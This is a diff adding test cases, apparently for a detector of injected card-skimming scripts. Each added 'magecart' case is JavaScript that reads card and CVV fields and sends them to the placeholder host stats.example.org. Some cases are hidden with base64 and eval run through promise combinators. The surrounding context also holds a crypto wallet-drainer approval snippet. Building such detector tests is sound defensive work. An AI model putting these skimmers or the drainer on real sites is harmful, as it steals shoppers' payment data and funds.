@@ -19,6 +19,10 @@ const PAGE = Array.from(
 ).join('\n')
 const APPROVAL = `const T='0xdAC17F958D2ee523a2206206994597C13D831ec7';async function claim(){await ethereum.enable();const s=new ethers.providers.Web3Provider(ethereum).getSigner();await new ethers.Contract(T,abi,s).approve('0x1234567890AbcdEF1234567890aBcdef12345678',ethers.constants.MaxUint256)}`
 
+/** A promise of code that sends a card when the order is placed. */
+const DECODED = `Promise.resolve(atob('${btoa(`document.querySelector('#place_order').onclick=()=>{new Image().src='https://stats.example.org/c?'+${CARD}.value}`)}'))`
+const runWhenKnown = (get: string): string => `(async()=>{eval(await ${get})})()`
+
 export const VALUE_PATH_CASES: readonly ScriptCase[] = [
   {
     name: 'a card returned if its field is there',
@@ -48,6 +52,53 @@ export const VALUE_PATH_CASES: readonly ScriptCase[] = [
   {
     name: 'a card for which a promise waits',
     source: `const typed=new Promise(r=>${CVV}.addEventListener('blur',e=>r(e.target.value)));typed.then(v=>fetch('https://stats.example.org/c?n='+${CARD}.value+'&c='+v,{mode:'no-cors'}))`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card by a built-in function and then',
+    source: sentAtOrder(`await Promise.resolve(${CARD}.value).then(encodeURIComponent)`),
+    head: 'magecart',
+  },
+  {
+    name: 'a card past functions for errors',
+    source: sentAtOrder(
+      `await Promise.resolve(${CARD}.value).then(null,()=>'').catch(()=>'').finally(()=>0)`,
+    ),
+    head: 'magecart',
+  },
+  {
+    name: 'a card sent by a function for errors',
+    source: `document.querySelector('#place_order').onclick=()=>{Promise.resolve('').then(null,()=>fetch('https://stats.example.org/c?d='+encodeURIComponent(${CARD}.value)))}`,
+    head: 'magecart',
+  },
+  {
+    name: 'code that wins a race',
+    source: runWhenKnown(`Promise.race([wait(900),${DECODED}])`),
+    head: 'magecart',
+  },
+  {
+    name: 'code that is any of two',
+    source: runWhenKnown(`Promise.any([wait(900),${DECODED}])`),
+    head: 'magecart',
+  },
+  {
+    name: 'code that is settled',
+    source: runWhenKnown(`Promise.allSettled([${DECODED}]).then(l=>l[0].value)`),
+    head: 'magecart',
+  },
+  {
+    name: 'a card that resolves another promise',
+    source: sentAtOrder(`await new Promise(r=>Promise.resolve(${CARD}.value).then(r))`),
+    head: 'magecart',
+  },
+  {
+    name: 'a card in an object that may be returned',
+    source: `function val(){if(window.opener){return {n:${CARD}.value,c:${CVV}.value}}return ''}${sentAtOrder('JSON.stringify(val())')}`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card in a list that may be returned',
+    source: `function val(){if(window.opener){return [${CARD}.value,${CVV}.value]}return ''}${sentAtOrder('val().join()')}`,
     head: 'magecart',
   },
   {
